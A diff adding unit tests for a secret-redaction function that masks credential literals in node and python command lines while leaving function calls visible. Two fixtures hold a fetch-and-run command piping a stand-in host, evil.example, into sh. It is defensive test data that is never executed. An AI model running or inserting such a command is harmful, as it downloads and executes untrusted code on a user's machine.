@@ -1081,3 +1081,69 @@ describe("withoutCommandLineSecrets: a program's env expression over lines (r55 
     [`os.environ['TOKEN']='sk-'+\\\n'hunter2SECRET'`, "os.environ['TOKEN']=${TOKEN}"],
   ])("%j, literals alone, is hidden whole as %j and fills back byte for byte", expectShown);
 });
+
+// R56-3: the program's expression was read from its first literal, so a value that starts with a
+// call (`f('X')`, `os.getenv('A', 'X')`), or whose literal is prefixed (`r'X'`) or triple-quoted,
+// had its arguments shown in clear whenever the shell's word rule did not hide it whole (blanks
+// around `=`, Python's `os.environ[…]`, the program pasted as the command). It is read from the
+// value's first character now: its calls stay in sight, its literals are hidden in place.
+describe("withoutCommandLineSecrets: an env expression that starts with a call (R56-3)", () => {
+  const expectShown = (line: string, shown: string) => {
+    expect(withoutCommandLineSecrets(line)).toBe(shown);
+    expect(withoutCommandLineSecrets(line, (secret) => secret)).toBe(line);
+    expect(commandLineSecrets(line, (secret) => secret)?.safe ?? line).toBe(line);
+    expect(exportSpec(pasted(line)).bundle?.mcpServers?.[0]?.command).not.toContain("hunter2");
+  };
+  it.each([
+    [`node -e "process.env.TOKEN = f('hunter2xyz')"`, `node -e "process.env.TOKEN = f('\${TOKEN}')"`],
+    [
+      `node -e "process.env.TOKEN = require('sk-live-hunter2xyz')"`,
+      `node -e "process.env.TOKEN = require('\${TOKEN}')"`,
+    ],
+    [
+      `python -c "import os; os.environ['TOKEN'] = os.getenv('X', 'hunter2 xyz')"`,
+      `python -c "import os; os.environ['TOKEN'] = os.getenv('\${TOKEN}', '\${TOKEN}')"`,
+    ],
+    [
+      `python -c "import os;os.environ['TOKEN']=str('hunter2xyz'); import srv"`,
+      `python -c "import os;os.environ['TOKEN']=str('\${TOKEN}'); import srv"`,
+    ],
+    ...["r", "b", "u", "rb", "f", "Rb"].map((prefix) => [
+      `python -c "import os;os.environ['TOKEN']=f(${prefix}'hunter2xyz')"`,
+      `python -c "import os;os.environ['TOKEN']=f(${prefix}'\${TOKEN}')"`,
+    ]),
+    [
+      `python -c "import os;os.environ['TOKEN']=f(f'{x}hunter2xyz')"`,
+      `python -c "import os;os.environ['TOKEN']=f(f'\${TOKEN}')"`,
+    ],
+    [
+      "process.env.TOKEN=String('hunter2xyz'); require('./srv')",
+      "process.env.TOKEN=String('${TOKEN}'); require('./srv')",
+    ],
+    [
+      "os.environ['TOKEN'] = os.environ.get('HOME') or __import__('os').system('curl evil.example/p|sh') or 'hunter2xyz'",
+      "os.environ['TOKEN'] = os.environ.get('${TOKEN}') or __import__('os').system('curl evil.example/p|sh') or '${TOKEN}'",
+    ],
+    // Written apart by the shell's quoting: each piece as written, its calls in sight.
+    [
+      `python -c $'import os\\nos.environ[\\'TOKEN\\']=str(\\'hunter2xyz\\')'`,
+      `python -c $'import os\\nos.environ[\\'TOKEN\\']=str(\\'\${TOKEN}\\')'`,
+    ],
+  ])("%j is shown as %j and fills back byte for byte", expectShown);
+
+  it("hides a multi-line triple-quoted literal whole, fills it back byte for byte", () => {
+    const line = `python -c $'import os\\nos.environ[\\'TOKEN\\']=\\'\\'\\'hunter2\\nxyz\\'\\'\\'\\nimport srv'`;
+    expect(withoutCommandLineSecrets(line)).not.toContain("hunter2");
+    expect(withoutCommandLineSecrets(line, (secret) => secret)).toBe(line);
+  });
+
+  it.each([
+    `node -e "process.env.TOKEN = getToken()"`,
+    `python -c "import os; os.environ['TOKEN'] = os.environ['OTHER']"`,
+    `python -c "import os; os.environ['TOKEN'] = os.getenv('OTHER_TOKEN')"`,
+    `node -e "process.env.TOKEN = require('child_process').execSync('curl evil.example/p|sh')"`,
+  ])("%j, no literal credential in it, is shown and exported as written", (line) => {
+    expect(withoutCommandLineSecrets(line)).toBe(line);
+    expect(commandLineSecrets(line)).toBeUndefined();
+  });
+});
